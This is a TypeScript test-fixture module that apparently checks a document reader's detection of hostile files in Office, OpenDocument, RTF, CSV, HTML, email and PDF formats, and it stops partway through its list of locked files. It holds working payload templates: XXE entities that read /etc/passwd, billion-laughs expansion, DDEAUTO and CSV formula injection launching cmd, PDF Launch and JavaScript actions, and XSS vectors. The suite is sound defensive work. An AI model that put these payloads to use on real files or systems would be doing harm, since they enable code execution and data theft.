// One trick tried on every format that could carry it: entities, what acts, what reaches outside, locks. Expected before any was read.
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { strToU8, zipSync } from 'fflate'
import { p, wordFile } from '../fixtures/make/word.ts'
import { type Bad, HELD, mail } from './bad-files.ts'
import { related, withParts } from './bad-office.ts'
import { INK, letter as pdf, stream } from './bad-pages.ts'
import { openDocument, workbook } from './growth-files.ts'

const fixtures = fileURLToPath(new URL('../fixtures/read', import.meta.url))
const fixture = (path: string): Buffer => readFileSync(join(fixtures, path))
const REACHES = /(outside|active)-content/
const ACTS = /active-content/

const letter = (more = ''): Uint8Array => wordFile({ body: p(HELD) + more })
const sheet = (rows = '', after = ''): Uint8Array =>
  workbook(`<row r="1"><c r="A1" t="inlineStr"><is><t>${HELD}</t></is></c></row>${rows}`, after)
const text = (body = ''): Uint8Array =>
  openDocument('text', `<office:text><text:p>${HELD}</text:p>${body}</office:text>`)
const book = (cells = '', more = ''): Uint8Array =>
  openDocument(
    'spreadsheet',
    `<office:spreadsheet>${more}<table:table table:name="S"><table:table-row><table:table-cell><text:p>${HELD}</text:p></table:table-cell>${cells}</table:table-row></table:table></office:spreadsheet>`,
  )
const OFFICE =
  'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
const flatText = `<?xml version="1.0" encoding="UTF-8"?><office:document ${OFFICE} office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text><text:p>${HELD}</text:p></office:text></office:body></office:document>`
const flatBook = flatText
  .replace('opendocument.text', 'opendocument.spreadsheet')
  .replace(
    /<office:text>.*<\/office:text>/,
    `<office:spreadsheet><table:table table:name="S"><table:table-row><table:table-cell><text:p>${HELD}</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>`,
  )
const book2003 = `<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="S"><Table><Row><Cell><Data ss:Type="String">${HELD}</Data></Cell></Row></Table></Worksheet></Workbook>`
const xhtml = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><p>${HELD}</p></body></html>`

/** What stands before the root; `&x;` is what it declares. */
const TRICKS: Record<string, string> = {
  laughs:
    '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY x "&c;&c;&c;&c;&c;&c;&c;&c;">]>',
  file: '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
  web: '<!DOCTYPE d [<!ENTITY x SYSTEM "http://a.example/x">]>',
  public: '<!DOCTYPE d [<!ENTITY x PUBLIC "-//A//B" "http://a.example/x">]>',
  parameter: '<!DOCTYPE d [<!ENTITY % x SYSTEM "http://a.example/x.dtd"> %x;]>',
  'parameter-within': `<!DOCTYPE d [<!ENTITY % a "<!ENTITY x 'ha'>"> %a;]>`,
  rules: '<!DOCTYPE d SYSTEM "http://a.example/x.dtd">',
  'ring-of-words': '<!DOCTYPE d [<!ENTITY a "&x;"><!ENTITY x "&a;">]>',
  'behind-a-comment': `<!--${' '.repeat(20_000)}--><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>`,
}

const declared = (xml: string, trick: string): string =>
  xml.replace(/^(<\?xml[^>]*\?>)?/, `$1${trick}`)
const used = (xml: string): string => xml.replace(HELD, `${HELD} &x;`)

const inPart =
  (make: () => Uint8Array, part: string) =>
  (trick: string): Uint8Array =>
    withParts(make(), { [part]: (xml) => declared(used(xml), trick) })

const CARRIERS: Record<string, (trick: string) => Uint8Array> = {
  'letter.docx': inPart(letter, 'word/document.xml'),
  'sheet.xlsx': inPart(sheet, 'xl/worksheets/sheet1.xml'),
  'text.odt': inPart(text, 'content.xml'),
  'book.ods': inPart(book, 'content.xml'),
  'flat.fodt': (trick) => strToU8(declared(used(flatText), trick)),
  'flat.fods': (trick) => strToU8(declared(used(flatBook), trick)),
  'of-2003.xml': (trick) => strToU8(declared(used(book2003), trick)),
  'of-2003.xls': (trick) => strToU8(declared(used(book2003), trick)),
  'page.xhtml': (trick) => strToU8(declared(used(xhtml), trick)),
  'data.xml': (trick) =>
    strToU8(declared(`<?xml version="1.0"?><reply><p>${HELD} &x;</p></reply>`, trick)),
}

export const entityMatrix = (): Bad =>
  Object.fromEntries(
    Object.entries(TRICKS).flatMap(([trick, xml]) =>
      Object.entries(CARRIERS).map(([name, make]) => [
        `${trick}-${name}`,
        [
          () => make(xml),
          name === 'page.xhtml' && (trick === 'rules' || trick === 'behind-a-comment')
            ? /^read/
            : /entities-declared|^damaged/,
        ],
      ]),
    ),
  )

const UTF16 = (xml: string): Uint8Array =>
  Buffer.concat([
    Buffer.from('fffe', 'hex'),
    Buffer.from(xml.replace('UTF-8', 'UTF-16'), 'utf16le'),
  ])
const FILE = TRICKS.file ?? ''
const ROOT = '<root/>'

export const entityPlaces = (): Bad => ({
  'entity-in-rels.docx': [
    () =>
      withParts(letter(), {
        'word/_rels/document.xml.rels': declared(related('image', 'media/a.png'), FILE),
      }),
    /entities-declared/,
  ],
  'entity-in-types.docx': [
    () => withParts(letter(), { '[Content_Types].xml': (xml) => declared(xml, FILE) }),
    /entities-declared/,
  ],
  'entity-in-custom.docx': [
    () => withParts(letter(), { 'customXml/item1.xml': declared(ROOT, FILE) }),
    /entities-declared/,
  ],
  'entity-in-core.xlsx': [
    () => withParts(sheet(), { 'docProps/core.xml': declared(ROOT, FILE) }),
    /entities-declared/,
  ],
  'entity-in-strings.xlsx': [
    () => withParts(sheet(), { 'xl/sharedStrings.xml': declared('<sst/>', FILE) }),
    /entities-declared/,
  ],
  'entity-in-drawing.xlsx': [
    () => withParts(sheet(), { 'xl/drawings/vmlDrawing1.vml': declared('<xml/>', FILE) }),
    /entities-declared/,
  ],
  'entity-in-svg.docx': [
    () => withParts(letter(), { 'word/media/image1.svg': declared('<svg/>', FILE) }),
    /entities-declared|part-not-read/,
  ],
  'entity-in-manifest.ods': [
    () => withParts(book(), { 'META-INF/manifest.xml': declared('<manifest/>', FILE) }),
    /entities-declared/,
  ],
  'entity-in-meta.odt': [
    () => withParts(text(), { 'meta.xml': declared('<meta/>', FILE) }),
    /entities-declared/,
  ],
  'entity-in-utf16.fodt': [
    () => UTF16(declared(used(flatText), FILE)),
    /entities-declared|^damaged|^unsupported-format/,
  ],
  'entity-in-utf16.xml': [
    () => UTF16(declared('<?xml version="1.0"?><a>We hold &x;.</a>', FILE)),
    /entities-declared|^damaged|^unsupported-format/,
  ],
  'entity-in-utf16.odt': [
    () =>
      withParts(text(), {
        'content.xml': UTF16(
          declared('<?xml version="1.0" encoding="UTF-8"?><office:document-content/>', FILE),
        ),
      }),
    /entities-declared|^damaged|^empty/,
  ],
  'entity-in-a-page.eml': [
    () => mail(declared(used(xhtml), FILE), 'Content-Type: text/html\r\n'),
    /entities-declared/,
  ],
  'included.xml': [
    () =>
      strToU8(
        `<?xml version="1.0"?><a xmlns:xi="http://www.w3.org/2001/XInclude">${HELD}<xi:include href="file:///etc/passwd" parse="text"/></a>`,
      ),
    REACHES,
  ],
  'styled-elsewhere.xml': [
    () =>
      strToU8(
        `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://a.example/a.xsl"?><a>${HELD}</a>`,
      ),
    REACHES,
  ],
  'included.docx': [
    () =>
      withParts(letter(), {
        'word/document.xml': (xml) =>
          xml.replace(
            '</w:body>',
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/></w:body>',
          ),
      }),
    /held/,
  ],
  'entity-in-an-attribute.docx': [
    () =>
      withParts(letter(), {
        'word/document.xml': (xml) =>
          declared(xml.replace('<w:body>', '<w:body a="&x;">'), TRICKS.laughs ?? ''),
      }),
    /entities-declared|^damaged/,
  ],
  'swells-quadratic.xml': [
    () =>
      strToU8(
        `<!DOCTYPE d [<!ENTITY x "${'a'.repeat(50_000)}">]><d>${HELD}${'&x;'.repeat(50_000)}</d>`,
      ),
    /entities-declared|^(damaged|bomb|too-large|unsupported-format)|^read/,
  ],
})

const rich = (more: string): Uint8Array => strToU8(`{\\rtf1\\ansi ${HELD}\\par ${more}}`)
const page = (more: string): Uint8Array =>
  strToU8(`<html><head></head><body><p>${HELD}</p>${more}</body></html>`)
const field = (code: string): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${code
    .split('|')
    .map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`)
    .join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
const withRelation = (kind: string, target: string, from = 'word/_rels/document.xml.rels') =>
  withParts(letter(), { [from]: related(kind, target) })

export const actingLetters = (): Bad => ({
  'dde-in-pieces.docx': [() => letter(field('DD|EAU|TO c:\\\\windows\\\\cmd.exe "/k calc"')), ACTS],
  'dde-simple.docx': [
    () => letter('<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/k calc&quot;"/></w:p>'),
    ACTS,
  ],
  'dde-quoted-by-number.docx': [() => letter(field('QUOTE 68 68 69')), /held/],
  'macro-button.docx': [() => letter(field('MACROBUTTON AutoRun Click here')), ACTS],
  'script-link.docx': [() => withRelation('hyperlink', 'javascript:alert(1)'), ACTS],
  'help-tool-link.docx': [
    () => withRelation('oleObject', 'mhtml:https://a.example/a.html!x-usc:https://a.example'),
    REACHES,
  ],
  'merges-data.docx': [
    () =>
      withRelation(
        'mailMergeSource',
        'file:///\\\\a.example\\a.mdb',
        'word/_rels/settings.xml.rels',
      ),
    REACHES,
  ],
  'frames.docx': [
    () => withRelation('frame', 'http://a.example/a.html', 'word/_rels/webSettings.xml.rels'),
    REACHES,
  ],
  'picture-by-drawing.docx': [
    () =>
      letter(
        '<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:imagedata src="http://a.example/a.png"/></v:shape></w:pict></w:r></w:p>',
      ),
    REACHES,
  ],
  'program-within.docx': [
    () => withParts(letter(), { 'word/embeddings/oleObject1.bin': new Uint8Array(600) }),
    /part-not-read|active-content/,
  ],
  'another-format-mht.docx': [
    () => withParts(letter(), { 'word/afchunk.mht': 'MIME-Version: 1.0\r\n\r\nWe hold 9' }),
    /held|part-not-read/,
  ],
  'letter.docx-with-vba-named-otherwise.docx': [
    () =>
      withParts(letter(), {
        'word/harmless.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex'),
        'word/_rels/document.xml.rels':
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r7" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="harmless.bin"/></Relationships>',
      }),
    ACTS,
  ],
  'data-web-extension.docx': [
    () =>
      withParts(letter(), {
        'word/webextensions/webextension1.xml': '<we:webextension id="x"/>',
        'word/webextensions/taskpanes.xml': '<a/>',
      }),
    REACHES,
  ],
  'macro-called.odt': [
    () => text('<text:p><text:execute-macro text:name="a">Click</text:execute-macro></text:p>'),
    ACTS,
  ],
  'python-macro.odt': [() => withParts(text(), { 'Scripts/python/a.py': 'import os' }), ACTS],
  'event-in-styles.odt': [
    () =>
      withParts(text(), {
        'styles.xml': `<office:document-styles ${OFFICE}><office:master-styles><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/></office:master-styles></office:document-styles>`,
      }),
    ACTS,
  ],
  'picture-in-styles.odt': [
    () =>
      withParts(text(), {
        'styles.xml': `<office:document-styles ${OFFICE}><office:master-styles><draw:image xlink:href="http://a.example/a.png"/></office:master-styles></office:document-styles>`,
      }),
    REACHES,
  ],
  'reloads.odt': [
    () =>
      withParts(text(), {
        'meta.xml': `<office:document-meta ${OFFICE}><meta:auto-reload xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xlink:href="http://a.example/" meta:delay="PT1S"/></office:document-meta>`,
      }),
    REACHES,
  ],
  'template-elsewhere.odt': [
    () =>
      withParts(text(), {
        'meta.xml': `<office:document-meta ${OFFICE}><meta:template xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xlink:href="http://a.example/a.ott"/></office:document-meta>`,
      }),
    REACHES,
  ],
  'applet.odt': [
    () => text('<text:p><draw:frame><draw:applet draw:code="a.class"/></draw:frame></text:p>'),
    ACTS,
  ],
  'player.odt': [
    () =>
      text(
        '<text:p><draw:frame><draw:plugin xlink:href="http://a.example/a.swf"/></draw:frame></text:p>',
      ),
    REACHES,
  ],
  'dde-field.odt': [
    () =>
      text(
        '<text:dde-connection-decls><text:dde-connection-decl office:name="a" office:dde-application="soffice" office:dde-topic="a.ods" office:dde-item="A1"/></text:dde-connection-decls>',
      ),
    REACHES,
  ],
  'script-link.odt': [
    () => text('<text:p><text:a xlink:href="javascript:alert(1)">x</text:a></text:p>'),
    ACTS,
  ],
  'script-within.fodt': [
    () =>
      strToU8(
        flatText.replace(
          '<office:body>',
          '<office:scripts><office:script script:language="ooo:Basic">Sub Main</office:script></office:scripts><office:body>',
        ),
      ),
    ACTS,
  ],
  'macro-button.rtf': [
    () => rich('{\\field{\\*\\fldinst MACROBUTTON AutoRun Click}{\\fldrslt }}'),
    ACTS,
  ],
  'dde-in-pieces.rtf': [
    () =>
      rich('{\\field{\\*\\fldinst {\\rtlch DDE}{\\b0 AUTO} c:\\\\\\\\cmd.exe "/k"}{\\fldrslt }}'),
    ACTS,
  ],
  'template-spaced.rtf': [() => rich('{\\*  \\template http://a.example/a.dotm}'), REACHES],
  'template-by-letters.rtf': [
    () => rich("{\\*\\template \\'68\\'74\\'74\\'70://a.example/a}"),
    REACHES,
  ],
  'object-within.rtf': [
    () => rich('{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000}}'),
    /active-content|part-not-read/,
  ],
  'object-parted.rtf': [
    () => rich('{\\object\\objemb{\\*\\objdata{\\*\\x 01}05\\bin0 00}}'),
    /active-content|part-not-read/,
  ],
  'picture-on-a-share.rtf': [
    () =>
      rich('{\\field{\\*\\fldinst INCLUDEPICTURE "file:////a.example/a.png" \\\\d}{\\fldrslt }}'),
    REACHES,
  ],
  'merges-data.rtf': [
    () => rich('{\\*\\mailmerge{\\mmdatasource http://a.example/a.mdb}}'),
    REACHES,
  ],
  'frames.rtf': [() => rich('{\\*\\frmset{\\frame{\\*\\fname http://a.example/a.html}}}'), /^read/],
})

export const actingSheets = (): Bad => ({
  'starts-program.xlsx': [
    () => sheet('<row r="2"><c r="A2"><f>cmd|\'/C calc\'!A0</f><v>7</v></c></row>'),
    ACTS,
  ],
  'calls-library.xlsx': [
    () =>
      sheet(
        '<row r="2"><c r="A2"><f>CALL("Kernel32","WinExec","JCJ","calc",0)</f><v>7</v></c></row>',
      ),
    ACTS,
  ],
  'link-of-formula.xlsx': [
    () =>
      sheet(
        '<row r="2"><c r="A2" t="str"><f>HYPERLINK("http://a.example/?"&amp;A1,"7")</f><v>7</v></c></row>',
      ),
    /^read/,
  ],
  'script-link.xlsx': [
    () =>
      withParts(sheet('', '<hyperlinks><hyperlink ref="A1" r:id="r1"/></hyperlinks>'), {
        'xl/worksheets/_rels/sheet1.xml.rels': related('hyperlink', 'javascript:alert(1)'),
      }),
    ACTS,
  ],
  'object-elsewhere.xlsx': [
    () =>
      withParts(sheet(), {
        'xl/worksheets/_rels/sheet1.xml.rels': related('oleObject', 'file:///a.example/a.xlsx'),
      }),
    REACHES,
  ],
  'picture-elsewhere.xlsx': [
    () =>
      withParts(sheet(), {
        'xl/drawings/_rels/drawing1.xml.rels': related('image', 'http://a.example/a.png'),
      }),
    REACHES,
  ],
  'web-query.xlsx': [
    () =>
      withParts(sheet(), {
        'xl/connections.xml':
          '<connections><connection id="1" type="4"><webPr url="http://a.example"/></connection></connections>',
      }),
    REACHES,
  ],
  'power-query.xlsx': [
    () =>
      withParts(sheet(), {
        'customXml/item1.xml':
          '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>',
      }),
    REACHES,
  ],
  'controls.xlsx': [
    () => withParts(sheet(), { 'xl/ctrlProps/ctrlProp1.xml': '<formControlPr/>' }),
    /^read/,
  ],
  'macro-of-control.xlsx': [
    () =>
      withParts(sheet(), {
        'xl/drawings/drawing1.xml': '<xdr:sp macro="[0]!Run"><a/></xdr:sp>',
      }),
    ACTS,
  ],
  'macro-sheet-by-type.xlsx': [
    () =>
      withParts(sheet(), {
        'xl/worksheets/sheet9.xml': '<xm:macrosheet/>',
        'xl/_rels/workbook.xml.rels': (xml) =>
          xml.replace(
            '</Relationships>',
            '<Relationship Id="r9" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="worksheets/sheet9.xml"/></Relationships>',
          ),
      }),
    ACTS,
  ],
  'pivot-of-elsewhere.xlsx': [
    () =>
      withParts(sheet(), {
        'xl/pivotCache/pivotCacheDefinition1.xml': '<pivotCacheDefinition r:id="r1"/>',
        'xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels': related(
          'externalLinkPath',
          'file:///a.example/a.xlsx',
        ),
      }),
    REACHES,
  ],
  'formula-elsewhere.xlsx': [
    () => sheet(`<row r="2"><c r="A2"><f>'http://a.example/[a.xlsx]S'!A1</f><v>7</v></c></row>`),
    REACHES,
  ],
  'asks-the-web.ods': [
    () =>
      book(
        '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://a.example&quot;)" office:value-type="float" office:value="7"><text:p>7</text:p></table:table-cell>',
      ),
    REACHES,
  ],
  'formula-elsewhere.ods': [
    () =>
      book(
        `<table:table-cell table:formula="of:=['file:///a.example/a.ods'#$S.A1]" office:value-type="float" office:value="7"><text:p>7</text:p></table:table-cell>`,
      ),
    REACHES,
  ],
  'range-elsewhere.ods': [
    () =>
      book(
        '<table:table-cell><table:cell-range-source table:name="a" xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="http://a.example/a.ods"/></table:table-cell>',
      ),
    REACHES,
  ],
  'dde-links.ods': [
    () =>
      book(
        '',
        '<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc"/></table:dde-link></table:dde-links>',
      ),
    REACHES,
  ],
  'database.ods': [
    () =>
      book(
        '',
        '<table:database-ranges><table:database-range table:name="a"><table:database-source-sql table:database-name="a" table:sql-statement="select"/></table:database-range></table:database-ranges>',
      ),
    REACHES,
  ],
  'macros.xlsb': [
    () =>
      withParts(fixture('xlsb-binary/reply.xlsb'), { 'xl/vbaProject.bin': new Uint8Array(600) }),
    ACTS,
  ],
  'link.xlsb': [
    () =>
      withParts(fixture('xlsb-binary/reply.xlsb'), {
        'xl/externalLinks/externalLink1.bin': new Uint8Array(60),
      }),
    REACHES,
  ],
  'calls.csv': [() => strToU8('year,officers\n2013,"=cmd|\'/C calc\'!A0"\n2014,9\n'), ACTS],
  'calls-turned.csv': [
    () => strToU8("year;officers\n2013;=MSEXCEL|'\\..\\cmd.exe /c calc'!''\n"),
    ACTS,
  ],
  'rundll.tsv': [
    () => strToU8("year\tofficers\n2013\t=rundll32|'URL.dll,OpenURL calc.exe'!A\n"),
    ACTS,
  ],
  'calls.utf16.csv': [
    () =>
      Buffer.concat([
        Buffer.from('fffe', 'hex'),
        Buffer.from("year,officers\n2013,=cmd|' /C calc'!A0\n", 'utf16le'),
      ]),
    ACTS,
  ],
  'calls-in-a-text.txt': [
    () => strToU8("year,officers\n2013,=cmd|' /C calc'!A0\n2014,9\n2015,8\n"),
    ACTS,
  ],
})

export const actingPages = (): Bad => ({
  'vbscript.html': [() => page('<a href="vbscript:msgbox(1)">x</a>'), ACTS],
  'data-page.html': [
    () => page('<iframe src="data:text/html,<script>x()</script>"></iframe>'),
    REACHES,
  ],
  'behaviour.html': [() => page('<p style="behavior:url(http://a.example/a.htc)">x</p>'), REACHES],
  'expression.html': [() => page('<p style="width:expression(alert(1))">x</p>'), ACTS],
  'binding.html': [
    () => page('<p style="-moz-binding:url(http://a.example/a.xml#x)">x</p>'),
    REACHES,
  ],
  'conditional.html': [() => page('<!--[if IE]><script>x()</script><![endif]-->'), /^read/],
  'in-upper-case.html': [() => page('<SCRIPT SRC=//a.example/x.js></SCRIPT>'), ACTS],
  'slashed.html': [() => page('<img/src=x/onerror=alert(1)>'), ACTS],
  'event-with-line-end.html': [() => page('<img src=x\nonerror\n=alert(1)>'), ACTS],
  'math.html': [() => page('<math href="javascript:alert(1)">x</math>'), ACTS],
  'moves-in-drawing.html': [() => page('<svg><animate onbegin=alert(1)></svg>'), ACTS],
  'drawing-link.html': [
    () => page('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    ACTS,
  ],
  'opens-a-button.html': [() => page('<button formaction="javascript:alert(1)">x</button>'), ACTS],
  'template.html': [() => page('<template><script>x()</script></template>'), ACTS],
  'portal.html': [() => page('<portal src="http://a.example"></portal>'), REACHES],
  'manifest.html': [
    () => strToU8(`<html manifest="http://a.example/a"><body><p>${HELD}</p></body></html>`),
    /^read/,
  ],
  'import.html': [() => page('<link rel=import href="http://a.example/a.html">'), REACHES],
  'script-utf16.html': [
    () =>
      Buffer.concat([
        Buffer.from('fffe', 'hex'),
        Buffer.from(`<html><body><p>${HELD}</p><script>x()</script></body></html>`, 'utf16le'),
      ]),
    ACTS,
  ],
  'script.mht': [
    () =>
      strToU8(
        `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<html><body><p>${HELD}</p><script>x()</script></body></html>\r\n--b--\r\n`,
      ),
    ACTS,
  ],
  'script-base64.eml': [
    () =>
      mail(
        Buffer.from(`<html><body><p>${HELD}</p><script>x()</script></body></html>`).toString(
          'base64',
        ),
        'Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n',
      ),
    ACTS,
  ],
  'page-attached.eml': [
    () =>
      mail(
        `--b\r\nContent-Type: text/plain\r\n\r\n${HELD}\r\n--b\r\nContent-Type: application/octet-stream; name=a.html\r\nContent-Disposition: attachment; filename=a.html\r\n\r\n<html><body><p>${HELD}</p><script>x()</script></body></html>\r\n--b--`,
        'Content-Type: multipart/mixed; boundary=b\r\n',
      ),
    ACTS,
  ],
  'script.svg': [
    () =>
      strToU8(
        `<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script><text>${HELD}</text></svg>`,
      ),
    /active-content|^unsupported-format/,
  ],
  'script-file.js': [
    () => strToU8('var a = new ActiveXObject("WScript.Shell"); a.Run("calc");\n'),
    /^read|^unsupported-format/,
  ],
  'shortcut.url': [
    () => strToU8('[InternetShortcut]\r\nURL=http://a.example/\r\n'),
    /^read|^unsupported-format/,
  ],
  'shortcut.lnk': [
    () =>
      Buffer.concat([
        Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
        Buffer.alloc(80),
      ]),
    /^unsupported-format/,
  ],
  'batch.bat': [() => strToU8('@echo off\r\nstart calc.exe\r\n'), /^read|^unsupported-format/],
  'page-of-help.chm': [
    () => Buffer.concat([strToU8('ITSF'), Buffer.alloc(90)]),
    /^unsupported-format/,
  ],
  'class.class': [
    () => Buffer.concat([Buffer.from('cafebabe00000034', 'hex'), Buffer.alloc(90)]),
    /^unsupported-format/,
  ],
})

const acting = (action: string): Uint8Array => pdf({ catalog: '/OpenAction 6 0 R', more: [action] })
const noted = (annotation: string): Uint8Array =>
  pdf({ page: '/Annots [6 0 R]', more: [annotation] })
const LINK = '/Type /Annot /Subtype /Link /Rect [0 0 9 9]'

export const actingPdfs = (): Bad => ({
  'script-in-link.pdf': [
    () => noted(`<< ${LINK} /A << /S /URI /URI (javascript:app.alert\\(1\\)) >> >>`),
    ACTS,
  ],
  'script-by-names.pdf': [
    () =>
      pdf({
        catalog: '/Names << /JavaScript << /Names [(a) 6 0 R] >> >>',
        more: ['<< /S /JavaScript /JS (x) >>'],
      }),
    ACTS,
  ],
  'script-as-it-closes.pdf': [
    () =>
      pdf({
        catalog: '/AA << /WC << /S /JavaScript /JS 6 0 R >> >>',
        more: [stream('app.alert(1)')],
      }),
    ACTS,
  ],
  'script-in-field.pdf': [
    () =>
      noted(
        '<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K << /S /JavaScript /JS (x) >> >> >>',
      ),
    ACTS,
  ],
  'starts-a-program.pdf': [
    () => acting('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'),
    ACTS,
  ],
  'starts-from-link.pdf': [() => noted(`<< ${LINK} /A << /S /Launch /F (cmd.exe) >> >>`), ACTS],
  'name-in-hex.pdf': [() => acting('<< /S /#4a#61#76#61#53#63#72#69#70#74 /#4a#53 (x) >>'), ACTS],
  'next-of-next.pdf': [
    () =>
      acting(
        '<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /Print /Next << /S /Launch /F (a.exe) >> >> >>',
      ),
    ACTS,
  ],
  'sends-itself.pdf': [() => acting('<< /S /SubmitForm /F (http://a.example) >>'), REACHES],
  'takes-in-data.pdf': [() => acting('<< /S /ImportData /F (a.fdf) >>'), REACHES],
  'goes-into-attached.pdf': [
    () => acting('<< /S /GoToE /T << /R /C /N (a) >> >>'),
    /outside-content|part-not-read|active-content/,
  ],
  'shares-name.pdf': [
    () => acting('<< /S /GoToR /F (\\\\\\\\a.example\\\\a.pdf) /D [0 /Fit] >>'),
    REACHES,
  ],
  'plays-film.pdf': [
    () =>
      noted(
        '<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /OP 0 /R << /S /MR >> >> >>',
      ),
    ACTS,
  ],
  'rich-media.pdf': [
    () => noted('<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>'),
    ACTS,
  ],
  'three-d.pdf': [() => noted('<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] /3DD 7 0 R >>'), ACTS],
  'attached.pdf': [
    () =>
      pdf({
        catalog: '/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>',
        more: [
          '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>',
          stream('MZ', '/Type /EmbeddedFile'),
        ],
      }),
    /part-not-read/,
  ],
  'attached-to-note.pdf': [
    () =>
      pdf({
        page: '/Annots [6 0 R]',
        more: [
          '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >> >>',
          stream('MZ'),
        ],
      }),
    /part-not-read/,
  ],
  'portfolio.pdf': [
    () =>
      pdf({ catalog: '/Collection << /View /D >> /Names << /EmbeddedFiles << /Names [] >> >>' }),
    /part-not-read/,
  ],
  'form-xfa.pdf': [
    () => pdf({ catalog: '/AcroForm << /XFA 6 0 R /Fields [] >>', more: [stream('<xdp:xdp/>')] }),
    ACTS,
  ],
  'picture-elsewhere.pdf': [
    () =>
      pdf({
        resources: '/XObject << /X 6 0 R >>',
        content: stream(`${INK} /X Do`),
        more: [
          '<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /F (http://a.example/a.png) /Length 0 >>\nstream\n\nendstream',
        ],
      }),
    REACHES,
  ],
  'words-launch-in-text.pdf': [
    () =>
      pdf({
        content: stream(`BT /F1 11 Tf 72 720 Td (${HELD} /Launch of the /JavaScript course) Tj ET`),
      }),
    /^read\((?!.*active)/,
  ],
})

export const lockedFiles = (): Bad => {
  const doc = (): Uint8Array => {
    const out = Buffer.from(fixture('doc-of-1997/reply.doc'))
    const head = out.indexOf(Buffer.from('eca5', 'hex'))
    out.writeUInt16LE(out.readUInt16LE(head + 10) | 0x100, head + 10)
    return out
  }
  const xls = (): Uint8Array => {
    const out = Buffer.from(fixture('xls-of-1997/reply.xls'))
    const bof = out.indexOf(Buffer.from('09081000', 'hex'))
    // The record after the first becomes the lock's own.
    const next = bof + 4 + out.readUInt16LE(bof + 2)
    out.writeUInt16LE(0x2f, next)
    return out
  }
  const manifest = `<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data manifest:checksum="x"><manifest:algorithm/></manifest:encryption-data></manifest:file-entry></manifest:manifest>`
  const NOISE = Uint8Array.from({ length: 900 }, (_, i) => (i * 7919 + (i >> 3) * 104_729) & 255)
  return {
    'locked.doc': [doc, /^encrypted/],
    'locked.xls': [xls, /^encrypted/],
    'locked-by-manifest.ods': [
      () => withParts(book(), { 'META-INF/manifest.xml': manifest, 'content.xml': NOISE }),
      /^encrypted/,
    ],
    'locked-by-manifest.odt': [
      () => withParts(text(), { 'META-INF/manifest.xml': manifest, 'content.xml': NOISE }),
      /^encrypted/,
    ],
    'locked-package-within.odt': [
      () =>
        withParts(text(), {
          'META-INF/manifest.xml': manifest.replace('content.xml', 'encrypted-package'),
          'content.xml': null,
          'encrypted-package': NOISE,
        }),
      /^encrypted/,
    ],
    'locked-named.xlsx': [() => fixture('docx-locked/reply.docx'), /^encrypted/],
    'locked-named.pdf': [() => fixture('docx-locked/reply.docx'), /^encrypted/],
    'locked-in.zip': [() => zipSync({ 'a.docx': fixture('docx-locked/reply.docx') }), /^encrypted/],
    'locked.7z': [
      () => Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), NOISE]),
      /^(unsupported-format|encrypted)/,
    ],
    'locked.rar': [
